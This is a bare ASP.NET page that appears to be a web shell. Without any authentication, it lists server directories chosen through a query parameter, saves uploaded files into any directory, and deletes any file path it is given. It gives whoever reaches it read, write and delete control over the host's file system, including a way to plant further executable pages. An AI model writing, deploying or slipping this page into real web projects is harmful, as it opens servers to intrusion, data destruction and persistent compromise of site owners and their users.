<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string dir = Request.QueryString["d"] ?? Server.MapPath(".");
    if (Request.Files.Count > 0)
    {
        HttpPostedFile f = Request.Files[0];
        f.SaveAs(Path.Combine(dir, Path.GetFileName(f.FileName)));
    }
    if (Request.QueryString["del"] != null)
    {
        File.Delete(Request.QueryString["del"]);
    }
    foreach (string sub in Directory.GetDirectories(dir))
        Response.Write("[" + Server.HtmlEncode(sub) + "]<br/>");
    foreach (string file in Directory.GetFiles(dir))
        Response.Write(Server.HtmlEncode(file) + "<br/>");
}
</script>
<form method="post" enctype="multipart/form-data"><input type="file" name="f" /><input type="submit" /></form>
